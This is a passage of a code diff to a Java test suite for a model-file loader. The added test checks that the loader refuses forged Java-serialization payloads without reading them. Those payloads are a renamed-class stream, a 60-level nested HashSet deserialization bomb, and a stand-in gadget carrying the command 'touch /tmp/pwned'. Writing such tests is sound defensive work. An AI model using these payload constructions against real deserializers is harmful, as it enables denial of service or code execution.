+                + "\"model_version\":\"forged\",\"payload_bytes\":" + bytes.length + ",\"payload_sha256\":\""
+                + HexFormat.of().formatHex(sha256(bytes)) + "\",\"threshold\":0.5,\"training\":{}}";
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(("VIGIL-MODEL 1\n" + header + "\n").getBytes(StandardCharsets.UTF_8));
+        out.writeBytes(bytes);
+        return out.toByteArray();
+    }
+
+    private static byte[] serialized(Serializable payload) {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
+            out.writeObject(payload);
+        } catch (IOException e) {
+            throw new IllegalStateException(e);
+        }
+        return bytes.toByteArray();
+    }
+
+    /** Replaces a class name in a Java serialization stream (its length-prefixed UTF form). */
+    private static byte[] renamed(byte[] stream, String from, String to) {
+        byte[] old = ByteBuffer.allocate(2 + from.length()).putShort((short) from.length())
+                .put(from.getBytes(StandardCharsets.US_ASCII)).array();
+        byte[] replacement = ByteBuffer.allocate(2 + to.length()).putShort((short) to.length())
+                .put(to.getBytes(StandardCharsets.US_ASCII)).array();
+        int at = indexOf(stream, old);
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.write(stream, 0, at);
+        out.writeBytes(replacement);
+        out.write(stream, at + old.length, stream.length - at - old.length);
+        return out.toByteArray();
+    }
+
+    @Test
+    void refusesTheThreeForgedJavaSerializationPayloadsWithoutReadingThem() {
+        Gadget.READS.set(0);
+        // (a) a HashMap holding a smile.math.matrix.BigMatrix: NoClassDefFoundError in the old reader
+        HashMap<String, Object> map = new HashMap<>();
+        map.put("matrix", new Gadget("stand-in"));
+        byte[] bigMatrix = renamed(serialized(map), Gadget.class.getName(), "smile.math.matrix.BigMatrix");
+        byte[] a = formatOneWithPayload(bigMatrix);
+        refused(a, Refusal.UNSUPPORTED_FORMAT_VERSION, "a Java-serialized model, never read by this build");
+
+        // (b) HashSets nested 60 levels deep: deserialization cost doubles per level
+        Set<Object> root = new HashSet<>();
+        Set<Object> s1 = root;
+        Set<Object> s2 = new HashSet<>();
+        for (int i = 0; i < 60; i++) {
+            Set<Object> t1 = new HashSet<>();
+            Set<Object> t2 = new HashSet<>();
+            t1.add("level " + i);
+            s1.add(t1);
+            s1.add(t2);
+            s2.add(t1);
+            s2.add(t2);
+            s1 = t1;
+            s2 = t2;
+        }
+        byte[] b = formatOne((Serializable) root);
+        refused(b, Refusal.UNSUPPORTED_FORMAT_VERSION, "a Java-serialized model, never read by this build");
+
+        // (c) the model's fields with a required one null, and a gadget beside them
+        TreeMap<String, Object> fields = new TreeMap<>();
+        fields.put("fleetMedians", model.fleet().baseline());
+        fields.put("supervised", null);
+        fields.put("gadget", new Gadget("touch /tmp/pwned"));
+        byte[] c = formatOne(fields);
+        refused(c, Refusal.UNSUPPORTED_FORMAT_VERSION, "a Java-serialized model, never read by this build");
+
+        assertThat(Gadget.READS).as("no payload object was ever deserialized").hasValue(0);
+    }
+
+    private static byte[] formatOneWithPayload(byte[] payload) {
+        byte[] template = formatOne("x");
+        String text = new String(template, StandardCharsets.ISO_8859_1);
+        int headerEnd = text.indexOf('\n', text.indexOf('\n') + 1);
+        String header = text.substring(0, headerEnd + 1)
+                .replaceAll("\"payload_bytes\":[0-9]+", "\"payload_bytes\":" + payload.length)
+                .replaceAll("\"payload_sha256\":\"[0-9a-f]+\"", "\"payload_sha256\":\""
+                        + HexFormat.of().formatHex(sha256(payload)) + "\"");
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(header.getBytes(StandardCharsets.ISO_8859_1));
+        out.writeBytes(payload);
+        return out.toByteArray();
     }
 
     @Test
     void namesEachRefusalWithAMetricFriendlyCode() {
-        assertThat(Refusal.FEATURE_SET_MISMATCH.code()).isEqualTo("feature_set_mismatch");
-        assertThat(Refusal.TOO_LARGE.code()).isEqualTo("too_large");
-    }
-
-    // ---- what models are made of passes the filter ----
-
-    @Test
-    void admitsSmileForestsAndThePerJobDetector() throws Exception {
-        Random random = new Random(3);
-        double[][] x = new double[200][4];
-        int[] y = new int[x.length];
-        for (int i = 0; i < x.length; i++) {
-            for (int j = 0; j < 4; j++) {
-                x[i][j] = random.nextGaussian();
-            }
-            y[i] = x[i][0] + x[i][1] > 0 ? 1 : 0;
-        }
-        IsolationForest isolation = IsolationForest.fit(x);
-        RandomForest forest = RandomForest.fit(Formula.lhs("y"),
-                DataFrame.of(x, "a", "b", "c", "d").merge(IntVector.of("y", y)));
-        JobHistory history = JobHistory.empty();
-        for (double[] row : new double[6][V1.size()]) {
-            history = detector.learn(history, row, false);
-        }
-        List<Object> parts = List.of(isolation, forest, detector, history);
-        Object opened = ModelArtifact.open(artifact(new ArrayList<>(parts)), V1).payload();
-        @SuppressWarnings("unchecked")
-        List<Object> back = (List<Object>) opened;
-        assertThat(((IsolationForest) back.get(0)).score(x[0])).isEqualTo(isolation.score(x[0]));
-        assertThat(((RandomForest) back.get(1)).predict(DataFrame.of(x, "a", "b", "c", "d").get(5)))
-                .isEqualTo(forest.predict(DataFrame.of(x, "a", "b", "c", "d").get(5)));
-        assertThat(back.get(3)).isEqualTo(history);
+        assertThat(Refusal.BAD_SIGNATURE.code()).isEqualTo("bad_signature");
+        assertThat(Arrays.stream(Refusal.values()).map(Refusal::code)).allMatch(c -> c.matches("[a-z_]+"));
     }
 }
